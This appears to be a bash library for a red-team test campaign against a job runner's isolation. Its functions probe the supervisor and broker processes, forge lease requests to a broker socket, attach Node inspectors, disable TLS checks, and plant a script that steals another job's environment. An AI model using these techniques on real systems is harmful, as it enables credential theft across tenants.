# Sourced by the jobs of the theft campaign. What a job gets hold of goes through `look`, which prints STOLEN and a proof where it
# is the secret: the campaign checks the proof, and no secret is in any log. Why something was refused is printed as REFUSED.
set -o pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
thief=$here/thief
socket=/run/lease/broker.sock

# A job that holds the secret looks for none.
look() { if [ "${PATTERN-}" ]; then "$thief" look; else cat >/dev/null; fi; }

# try WHAT COMMAND...: searches what the command prints.
try() {
  local what=$1 errors
  shift
  errors=$(mktemp)
  if "$@" 2>"$errors" | look; then echo "READ $what"; else echo "REFUSED $what: $(tail -n 1 "$errors" | tr -d '\0')"; fi
  rm -f "$errors"
}

# The last line of every job that did what it was to do.
tried() { echo TRIED; }

command_of() { tr '\0' ' ' <"/proc/$1/cmdline" 2>/dev/null; }

# The process that holds the lease.
supervisor() {
  local process
  for process in /proc/[0-9]*; do
    case "$(command_of "${process#/proc/}")" in
      *tini* | */bin/sh*) ;;
      *node*/supervisor.js*) echo "${process#/proc/}" && return ;;
    esac
  done
}

# Processes that are not this job's: whose parents lead to no worker.
others() {
  local process
  for process in /proc/[0-9]*; do
    case "$(command_of "${process#/proc/}")" in
      *node*/supervisor.js* | *node*/broker.js* | */tini* | /pause*) echo "${process#/proc/}" ;;
    esac
  done
}

# The name of the beacon, which everybody in the Pod may read.
beacon() { grep -ao '@digdag-runner-[0-9a-f]*' /proc/net/unix | head -n 1 | tr -d @; }

# get URL...: see get.js. Certificates of the cluster's own authority are fine.
get() { NODE_TLS_REJECT_UNAUTHORIZED=0 NODE_NO_WARNINGS=1 /opt/node/bin/node "$here/get.js" "$@"; }

# inspect PORT EXPRESSION: see inspect.js.
inspect() { NODE_NO_WARNINGS=1 /opt/node/bin/node --experimental-websocket "$here/inspect.js" "$@"; }

# hello WHAT [FIELDS]: asks for the lease. Any key that is answered is one: the campaign knows whether it is the lease's.
hello() {
  local what=$1 answer
  answer=$(printf '{"type":"hello","beacon":"%s"%s}\n' "${2-digdag-runner-thief}" "${3-}" | "$thief" talk "$socket" 3 2>&1)
  FINGERPRINT=any look <<<"$answer"
  case $answer in
    *welcome*) echo "READ $what" && return 0 ;;
    *reason*) echo "REFUSED $what: $(sed -n 's/.*"reason":"\([^"]*\)".*/\1/p' <<<"$answer" | head -n 1)" ;;
    *) echo "REFUSED $what: ${answer:-no answer}" ;;
  esac
  return 1
}

# plant: puts the thief where a job may write, and prints a script to be run in another job, which steals its environment.
plant() {
  local place=$HOME/.plant
  mkdir -p "$place" && cp "$thief" "$place/thief"
  printf '#!/bin/bash\nunset BASH_ENV\nenv | PATTERN=%q FINGERPRINT=%q %q look\n' "$PATTERN" "$FINGERPRINT" "$place/thief" >"$place/steal.sh"
  chmod 755 "$place/steal.sh"
  echo "$place/steal.sh"
}
